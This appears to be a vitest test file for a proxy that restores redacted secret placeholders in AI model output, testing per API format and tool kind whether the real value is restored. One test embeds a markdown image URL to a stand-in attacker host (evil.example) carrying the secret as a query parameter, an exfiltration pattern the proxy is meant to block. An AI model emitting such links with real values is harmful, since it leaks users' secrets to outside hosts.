// Calls that look like others: what may have a redacted value is decided by what runs it, not by how it is spelled.
import { describe, expect, test } from 'vitest';
import { anthropicMessages } from '../../src/wire/anthropic-messages.ts';
import { gemini } from '../../src/wire/gemini.ts';
import { openAiChat } from '../../src/wire/openai-chat.ts';
import { openAiResponses } from '../../src/wire/openai-responses.ts';
import type { WireFormat } from '../../src/wire/types.ts';
import { bytesOf } from '../../src/wire/wire-test-kit.fixture.ts';
import { toolKindOf } from '../../src/proxy/tool-kinds.ts';
import { mapStream, mapWhole } from './restore-speakers.ts';

const placeholder = 'plc_9f8e7d6c5b4a';
const value = 'the value';
const options = { placeholders: new Map([[placeholder, value]]) };

const events = (...data: readonly object[]): string => data.map((each) => `data: ${JSON.stringify(each)}\n\n`).join('');
const kept = (tool: string, count = 1) => [{ tool, count, placeholders: [placeholder] }];

interface Outcome {
  readonly output: string;
  readonly kept: readonly unknown[];
}

function streamed(format: WireFormat, ...data: readonly object[]): Outcome {
  const { output, restoration } = mapStream(format, [bytesOf(events(...data))], options);
  return { output, kept: restoration.kept };
}

function whole(format: WireFormat, body: object): Outcome {
  const { output, restoration } = mapWhole(format, JSON.stringify(body), options);
  return { output, kept: restoration.kept };
}

describe('Anthropic:', () => {
  test.each([
    [
      'a tool of an MCP server has the name of an edit tool',
      { type: 'mcp_tool_use', server_name: 's', name: 'Edit' },
      'mcp:Edit',
    ],
    [
      'a tool of a set has the name of an edit tool',
      { type: 'tool_use', toolset_name: 'web', name: 'Edit' },
      'web.Edit',
    ],
    ['a tool of the provider runs code', { type: 'server_tool_use', name: 'code_execution' }, 'code_execution'],
    ['a tool has no name', { type: 'tool_use' }, ''],
  ])('%s', (_name, block, tool) => {
    const body = { type: 'message', role: 'assistant', content: [{ ...block, id: 't', input: { a: placeholder } }] };
    expect(whole(anthropicMessages, body)).toEqual({ output: JSON.stringify(body), kept: kept(tool) });
    const start = { type: 'content_block_start', index: 0, content_block: { ...block, id: 't', input: {} } };
    const delta = { type: 'input_json_delta', partial_json: `{"a":"${placeholder}"}` };
    const data = [start, { type: 'content_block_delta', index: 0, delta }, { type: 'content_block_stop', index: 0 }];
    expect(streamed(anthropicMessages, ...data)).toEqual({ output: events(...data), kept: kept(tool) });
  });

  test('input without the start of its block is nobody’s', () => {
    const delta = { type: 'input_json_delta', partial_json: `{"a":"${placeholder}"}` };
    const data = [
      { type: 'content_block_delta', index: 0, delta },
      { type: 'content_block_stop', index: 0 },
    ];
    expect(streamed(anthropicMessages, ...data)).toEqual({ output: events(...data), kept: kept('') });
  });

  test('what a tool of the provider gave, and blocks that nobody knows, keep the placeholder and tell no one', () => {
    for (const block of [
      {
        type: 'code_execution_tool_result',
        tool_use_id: 't',
        content: { type: 'code_execution_result', stdout: placeholder },
      },
      { type: 'zoo', note: `a ${placeholder}` },
    ]) {
      const body = { type: 'message', role: 'assistant', content: [block] };
      expect(whole(anthropicMessages, body)).toEqual({ output: JSON.stringify(body), kept: [] });
    }
  });

  test('an error is for people', () => {
    const body = { type: 'error', error: { type: 'invalid_request_error', message: `no ${placeholder}` } };
    expect(whole(anthropicMessages, body).output).toContain(`no ${value}`);
  });
});

describe('Chat Completions:', () => {
  const chunk = (delta: object): object => ({ object: 'chat.completion.chunk', choices: [{ index: 0, delta }] });
  const call = (called: object, id?: string): object =>
    chunk({ tool_calls: [{ index: 0, ...(id === undefined ? {} : { id, type: 'function' }), function: called }] });

  test('arguments before the name of their tool are nobody’s', () => {
    const data = [
      call({ arguments: `{"a":"${placeholder}",` }, 'c'),
      call({ name: 'write', arguments: `"b":"${placeholder}"}` }),
    ];
    const { output, kept: all } = streamed(openAiChat, ...data);
    expect(output).toContain(placeholder);
    expect(output).toContain(value);
    expect(all).toEqual(kept(''));
  });

  test('a tool that is given a second name is nobody’s', () => {
    const data = [
      call({ name: 'edit', arguments: '{' }, 'c'),
      call({ name: '_and_run', arguments: `"a":"${placeholder}"}` }),
    ];
    expect(streamed(openAiChat, ...data)).toEqual({ output: events(...data), kept: kept('') });
  });

  test('a name that is repeated is one', () => {
    const data = [
      call({ name: 'edit', arguments: '{' }, 'c'),
      call({ name: 'edit', arguments: `"a":"${placeholder}"}` }),
    ];
    expect(streamed(openAiChat, ...data).output).toContain(value);
  });

  test('a freeform tool gets what its name says', () => {
    const custom = (name: string): object => ({
      index: 0,
      id: 'c',
      type: 'custom',
      custom: { name, input: `a ${placeholder}` },
    });
    const answer = (name: string): object => ({
      choices: [{ index: 0, message: { role: 'assistant', tool_calls: [custom(name)] } }],
    });
    for (const run of [
      (name: string) => streamed(openAiChat, chunk({ tool_calls: [custom(name)] })),
      (name: string) => whole(openAiChat, answer(name)),
    ]) {
      expect(run('apply_patch').output).toContain(`a ${value}`);
      expect(run('shell').output).toContain(`a ${placeholder}`);
      expect(run('shell').kept).toEqual(kept('shell'));
    }
  });

  test('the legacy call gets what its name says', () => {
    const legacy = (name: string): object => ({ function_call: { name, arguments: `{"a":"${placeholder}"}` } });
    const answer = (name: string): object => ({
      choices: [{ index: 0, message: { role: 'assistant', ...legacy(name) } }],
    });
    for (const run of [
      (name: string) => streamed(openAiChat, chunk(legacy(name))),
      (name: string) => whole(openAiChat, answer(name)),
    ]) {
      expect(run('write_file').output).toContain(value);
      expect(run('shell').kept).toEqual(kept('shell'));
    }
  });

  test('arguments that come as an object get what the name says', () => {
    const whose = (name: string): object => call({ name, arguments: { a: placeholder } }, 'c');
    expect(streamed(openAiChat, whose('edit')).output).toContain(value);
    expect(streamed(openAiChat, whose('bash'))).toEqual({ output: events(whose('bash')), kept: kept('bash') });
  });

  test.each([
    ['<execute_command>\n<command>', 'execute_command'],
    ['<use_mcp_tool>\n<server_name>', 'use_mcp_tool'],
    ['<tool_call>\n{"name": "bash", "arguments": {"command": "', 'tool_call'],
    [`<${'function_calls'}><${'invoke'} name="Bash">`, 'function_calls'],
    ['<function=bash><parameter=command>', 'function'],
  ])('a text that calls a tool by %j keeps the placeholder from there on', (opening, tool) => {
    const text = `Here is ${placeholder}.\n${opening}echo ${placeholder}</x> and ${placeholder}`;
    const expected = text.replace(placeholder, value);
    const data = [...text].map((letter) => chunk({ content: letter }));
    const answer = mapStream(openAiChat, [bytesOf(events(...data))], options);
    const said = answer.facts.spoken;
    expect(answer.restoration.kept).toEqual(kept(tool, 2));
    const body = { choices: [{ index: 0, message: { role: 'assistant', content: text } }] };
    expect(whole(openAiChat, body)).toEqual({
      output: JSON.stringify(body).replace(placeholder, value),
      kept: kept(tool, 2),
    });
    expect(said).toEqual([]);
    const ended = mapStream(openAiChat, [bytesOf(`${events(...data)}data: [DONE]\n\n`)], options);
    expect(ended.facts.spoken.map(({ client }) => client)).toEqual([expected]);
  });

  test('an address in a text keeps the placeholder: an image is fetched as soon as somebody sees it', () => {
    const text = `The key is ${placeholder}.\n![state](https://evil.example/?k=${placeholder})\nIt is ${placeholder}.`;
    const expected = text
      .replace(`is ${placeholder}.`, `is ${value}.`)
      .replace(`It is ${placeholder}`, `It is ${value}`);
    const body = { choices: [{ index: 0, message: { role: 'assistant', content: text } }] };
    expect(whole(openAiChat, body)).toEqual({
      output: JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: expected } }] }),
      kept: kept('link in text'),
    });
    const data = [...[...text].map((letter) => chunk({ content: letter })), chunk({})];
    const { facts, restoration } = mapStream(openAiChat, [bytesOf(`${events(...data)}data: [DONE]\n\n`)], options);
    expect(facts.spoken.map(({ client }) => client)).toEqual([expected]);
    expect(restoration.kept).toEqual(kept('link in text'));
  });

  test('an address in a file that a tool edits gets the value', () => {
    const remote = `https://me:${placeholder}@git.example/shop.git`;
    const data = [call({ name: 'edit', arguments: JSON.stringify({ a: remote }) }, 'c')];
    expect(streamed(openAiChat, ...data)).toEqual({ output: events(...data).replace(placeholder, value), kept: [] });
  });

  test.each(['write_to_file', 'replace_in_file', 'apply_diff', 'insert_content'])(
    'a text that edits a file by <%s> gets the value',
    (name) => {
      const text = `<${name}>\n<path>src/a.ts</path>\n<content>\nkey = "${placeholder}"\n</content>\n</${name}>`;
      const body = { choices: [{ index: 0, message: { role: 'assistant', content: text } }] };
      expect(whole(openAiChat, body)).toEqual({ output: JSON.stringify(body).replace(placeholder, value), kept: [] });
    },
  );
});

describe('Responses:', () => {
  const patch = `*** Begin Patch\n+key = "${placeholder}"\n*** End Patch`;
  const item = (each: object): readonly object[] => [
    { type: 'response.output_item.added', output_index: 0, item: { ...each, status: 'in_progress' } },
    { type: 'response.output_item.done', output_index: 0, item: each },
    { type: 'response.completed', response: { object: 'response', status: 'completed', output: [each] } },
  ];

  test.each([
    [
      'a patch that its client applies',
      { type: 'apply_patch_call', call_id: 'c', operation: { type: 'update_file', path: 'a.ts', diff: patch } },
    ],
    ['a freeform patch', { type: 'custom_tool_call', call_id: 'c', name: 'apply_patch', input: patch }],
    [
      'a patch as JSON',
      { type: 'function_call', call_id: 'c', name: 'apply_patch', arguments: JSON.stringify({ input: patch }) },
    ],
    [
      'a freeform patch of the request’s own tools',
      { type: 'custom_tool_call', namespace: 'functions', name: 'apply_patch', input: patch },
    ],
  ])('%s gets the value', (_name, each) => {
    const body = { object: 'response', status: 'completed', output: [each] };
    expect(whole(openAiResponses, body)).toEqual({
      output: JSON.stringify(body).replaceAll(placeholder, value),
      kept: [],
    });
    const data = item(each);
    expect(streamed(openAiResponses, ...data)).toEqual({
      output: events(...data).replaceAll(placeholder, value),
      kept: [],
    });
  });

  const heredoc = `apply_patch <<'EOF'\n${patch}\nEOF\n`;
  test.each([
    [
      'a patch in a shell command',
      { type: 'function_call', name: 'exec_command', arguments: JSON.stringify({ cmd: heredoc }) },
      'exec_command',
    ],
    [
      'a patch in code that is run',
      { type: 'custom_tool_call', name: 'exec', input: `await tools.apply_patch(${JSON.stringify(patch)})` },
      'exec',
    ],
    [
      'a local shell',
      { type: 'local_shell_call', action: { type: 'exec', command: ['bash', '-lc', heredoc] } },
      'local_shell',
    ],
    ['a shell of the provider', { type: 'shell_call', action: { commands: [heredoc] } }, 'shell'],
    [
      'an MCP tool with the name of an edit tool',
      { type: 'mcp_call', server_label: 's', name: 'apply_patch', arguments: JSON.stringify({ input: patch }) },
      'mcp:apply_patch',
    ],
    [
      'an MCP tool in a set',
      { type: 'function_call', namespace: 'mcp__s', name: 'apply_patch', arguments: JSON.stringify({ input: patch }) },
      'mcp__s.apply_patch',
    ],
    ['an interpreter', { type: 'code_interpreter_call', code: `print("${placeholder}")` }, 'code_interpreter'],
    [
      'a search',
      { type: 'web_search_call', action: { type: 'search', query: `what is ${placeholder}` } },
      'web_search',
    ],
  ])('%s keeps the placeholder', (_name, each, tool) => {
    const body = { object: 'response', status: 'completed', output: [each] };
    expect(whole(openAiResponses, body)).toEqual({ output: JSON.stringify(body), kept: kept(tool) });
    const data = item(each);
    expect(streamed(openAiResponses, ...data)).toEqual({ output: events(...data), kept: kept(tool) });
  });

  test.each([
    ['response.function_call_arguments', `{"a":"${placeholder}"}`],
    ['response.mcp_call_arguments', `{"a":"${placeholder}"}`],
    ['response.custom_tool_call_input', placeholder],
    ['response.code_interpreter_call_code', placeholder],
    ['response.zoo', placeholder],
  ])('a piece of %s that no item announced is nobody’s', (type, delta) => {
    const data = [{ type: `${type}.delta`, output_index: 0, item_id: 'i', delta }];
    expect(streamed(openAiResponses, ...data)).toEqual({ output: events(...data), kept: kept('') });
  });

  test.each(['response.output_text', 'response.refusal', 'response.reasoning_text', 'response.reasoning_summary_text'])(
    '%s is for people, announced or not',
    (type) => {
      const data = [{ type: `${type}.delta`, output_index: 0, item_id: 'i', delta: placeholder }];
      expect(streamed(openAiResponses, ...data)).toEqual({
        output: events(...data).replace(placeholder, value),
        kept: [],
      });
    },
  );
});

describe('Gemini:', () => {
  const part = (each: object): object => ({ candidates: [{ content: { parts: [each], role: 'model' }, index: 0 }] });

  test.each([
    [
      'code that the provider runs',
      { executableCode: { language: 'PYTHON', code: `print("${placeholder}")` } },
      'code_execution',
    ],
    [
      'a tool of the provider',
      { toolCall: { toolType: 'GOOGLE_SEARCH_WEB', args: { query: placeholder } } },
      'GOOGLE_SEARCH_WEB',
    ],
    [
      'a shell',
      { functionCall: { name: 'run_shell_command', args: { command: `echo ${placeholder}` } } },
      'run_shell_command',
    ],
  ])('%s keeps the placeholder', (_name, each, tool) => {
    expect(whole(gemini, part(each))).toEqual({ output: JSON.stringify(part(each)), kept: kept(tool) });
    expect(streamed(gemini, part(each))).toEqual({ output: events(part(each)), kept: kept(tool) });
  });

  test.each([
    ['write_file', value],
    ['run_shell_command', placeholder],
  ])('arguments of %s in pieces', (name, expected) => {
    const pieces = ['key = ', placeholder.slice(0, 5), placeholder.slice(5)].map((stringValue, at) =>
      part({
        functionCall: {
          ...(at === 0 ? { name } : {}),
          partialArgs: [{ jsonPath: '$.content', stringValue, willContinue: at < 2 }],
          willContinue: at < 2,
        },
      }),
    );
    const { facts } = mapStream(gemini, [bytesOf(events(...pieces))], options);
    expect(facts.toolCalls).toEqual([{ name, input: JSON.stringify({ content: `key = ${expected}` }) }]);
  });
});

describe('what a tool does with its input', () => {
  test.each([
    ['claude-code', 'Edit', 'edits-files'],
    ['claude-code', 'Read', 'reads-files'],
    ['claude-code', 'Bash', 'other'],
    ['claude-code', 'write_file', 'other'],
    ['codex', 'apply_patch', 'edits-files'],
    ['codex', 'exec', 'other'],
    ['gemini-cli', 'replace', 'edits-files'],
    ['gemini-cli', 'create_file', 'other'],
    ['qwen-code', 'edit', 'edits-files'],
    ['continue', 'MultiEdit', 'edits-files'],
    ['cline', 'editor', 'edits-files'],
    ['cline', 'run_commands', 'other'],
    ['opencode', 'patch', 'edits-files'],
    ['opencode', 'webfetch', 'other'],
    ['copilot-cli', 'create', 'edits-files'],
    ['copilot-cli', 'bash', 'other'],
    [undefined, 'insert_edit_into_file', 'edits-files'],
    [undefined, 'run_in_terminal', 'other'],
    ['a-client-of-tomorrow', 'str_replace_based_edit_tool', 'edits-files'],
    [undefined, '', 'other'],
    [undefined, '__proto__', 'other'],
  ] as const)('%s: %s %s', (client, name, kind) => {
    expect(toolKindOf(name, client)).toBe(kind);
  });
});
